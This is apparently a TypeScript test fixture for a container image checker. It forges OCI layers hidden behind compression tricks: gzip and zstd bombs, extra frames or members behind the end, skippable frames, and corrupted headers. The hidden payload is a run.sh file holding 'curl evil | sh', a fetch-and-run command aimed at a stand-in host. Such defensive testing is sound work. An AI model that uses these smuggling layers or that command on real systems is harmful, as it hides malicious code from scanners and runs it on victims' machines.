import { type BuiltImage, mediaType } from '@pratique/oci';
import { gzip, image, layer, type Layer, plain, zstd } from './forge-image.js';
import type { HostileTable } from './hostile-table.js';
import { streamedLayer } from './streamed-layer.js';
import { endOfTar, file, header, tar } from './tar-forge.js';

const good = tar(file('main.bicep'));
const hidden = tar(file('run.sh', 'curl evil | sh\n'));

/** Bytes that are said to unpack to the good tar, as a naive reader would find. */
const ofGzip = (bytes: Buffer) => (): BuiltImage => image([layer(bytes, good)]);
const ofZstd = (bytes: Buffer) => (): BuiltImage => image([layer(bytes, good, `${mediaType.ociLayer}+zstd`)]);

/** What hides behind compression. */
export const compressions: HostileTable = {
  'a gzip bomb of allowed content': ['limit-exceeded', () => bomb('gzip', 256)],
  'a zstd bomb of allowed content': ['limit-exceeded', () => bomb('zstd', 1024)],
  'a gzip bomb within gzip': ['not-readable', async () => nested(await bomb('gzip', 128))],
  'a zstd frame that asks for a window of 2 GiB': ['not-readable', ofZstd(zstdHeader('a8'))],
  'a zstd frame that asks for a window of 256 MiB': ['not-readable', ofZstd(zstdHeader('90'))],
  'a zstd frame with a dictionary': ['not-readable', ofZstd(Buffer.from('28b52ffd2107000000090000', 'hex'))],
  'a second zstd frame behind the end': ['not-readable', ofZstd(both(zstd(good), zstd(hidden)))],
  'a zstd frame behind one that is skipped': [
    'not-readable',
    ofZstd(both(zstd(good), skippable(4), zstd(hidden))),
  ],
  'a zstd frame before which one is skipped': [
    'failed',
    () => image([layer(both(skippable(4), zstd(hidden)), hidden, `${mediaType.ociLayer}+zstd`)]),
  ],
  'a file in the second of two zstd frames': [
    'failed',
    () => image([inTwo(zstd, `${mediaType.ociLayer}+zstd`)]),
  ],
  'nothing but skipped zstd frames': ['not-readable', ofZstd(skippable(100))],
  'a skipped zstd frame that breaks off': ['not-readable', ofZstd(Buffer.from('502a4d18ffffffff00', 'hex'))],
  'an old zstd format behind a frame': [
    'not-readable',
    ofZstd(both(zstd(good), Buffer.from('27b52ffd00', 'hex'))),
  ],
  'zstd that breaks off': ['not-readable', ofZstd(zstd(good).subarray(0, -3))],
  'a damaged zstd block': ['not-readable', ofZstd(flipped(zstd(good), 12))],
  'garbage behind zstd': ['not-readable', ofZstd(both(zstd(good), Buffer.from('garbage')))],
  'a second gzip member behind the end': ['not-readable', ofGzip(both(gzip(good), gzip(hidden)))],
  'a gzip member behind a zero byte': [
    'not-readable',
    ofGzip(both(gzip(good), Buffer.alloc(1), gzip(hidden))),
  ],
  'a file in the second of two gzip members': ['failed', () => image([inTwo(gzip, mediaType.ociLayerGzip)])],
  'a file behind 20,000 empty gzip members': [
    'failed',
    () => image([layer(both(...Array<Buffer>(20_000).fill(gzip(Buffer.alloc(0))), gzip(hidden)), hidden)]),
  ],
  'garbage behind gzip': ['not-readable', ofGzip(both(gzip(good), Buffer.from('garbage')))],
  'gzip that breaks off': ['not-readable', ofGzip(gzip(good).subarray(0, -9))],
  'a wrong gzip checksum': ['not-readable', ofGzip(flipped(gzip(good), -6))],
  'a wrong gzip length': ['not-readable', ofGzip(flipped(gzip(good), -2))],
  'a reserved gzip method': ['not-readable', ofGzip(flipped(gzip(good), 2))],
  'gzip of gzip': ['not-readable', ofGzip(gzip(gzip(good)))],
  bzip2: ['not-readable', ofGzip(Buffer.from('BZh91AY&SY' + '0'.repeat(600)))],
  xz: ['not-readable', ofGzip(Buffer.from(`fd377a585a00${'00'.repeat(600)}`, 'hex'))],
  'a zip archive as a layer': ['not-readable', ofGzip(Buffer.from(`504b0304${'00'.repeat(600)}`, 'hex'))],
  'no bytes at all': ['nothing-to-check', () => image([plain(Buffer.alloc(0))])],
};

function both(...parts: readonly Buffer[]): Buffer {
  return Buffer.concat(parts);
}

function flipped(bytes: Buffer, at: number): Buffer {
  const copy = Buffer.from(bytes);
  const index = at < 0 ? copy.length + at : at;
  copy[index] = (copy[index] ?? 0) ^ 0x55;
  return copy;
}

/** A frame that is not of one segment, with a window as its descriptor byte says. */
function zstdHeader(window: string): Buffer {
  return Buffer.from(`28b52ffd00${window}010000`, 'hex');
}

function skippable(length: number): Buffer {
  const start = Buffer.from('502a4d1800000000', 'hex');
  start.writeUInt32LE(length, 4);
  return both(start, Buffer.alloc(length, 1));
}

/** A tar cut in two, each part compressed by itself. */
function inTwo(compress: (bytes: Buffer) => Buffer, type: string): Layer {
  const start = file('main.bicep');
  return layer(both(compress(start), compress(hidden)), both(start, hidden), type);
}

/** Mebibytes of spaces, which are allowed as text, with everything else right. */
async function bomb(codec: 'gzip' | 'zstd', mebibytes: number): Promise<BuiltImage> {
  const size = mebibytes * 2 ** 20;
  const spaces = Buffer.alloc(2 ** 20, ' ');
  return image([
    await streamedLayer(codec, function* () {
      yield header({ name: 'main.bicep', size });
      for (let at = 0; at < mebibytes; at++) yield spaces;
      yield endOfTar;
    }),
  ]);
}

function nested(inner: BuiltImage): BuiltImage {
  const bytes = inner.blobs[1]?.bytes ?? Buffer.alloc(0);
  return image([layer(gzip(bytes), bytes)]);
}
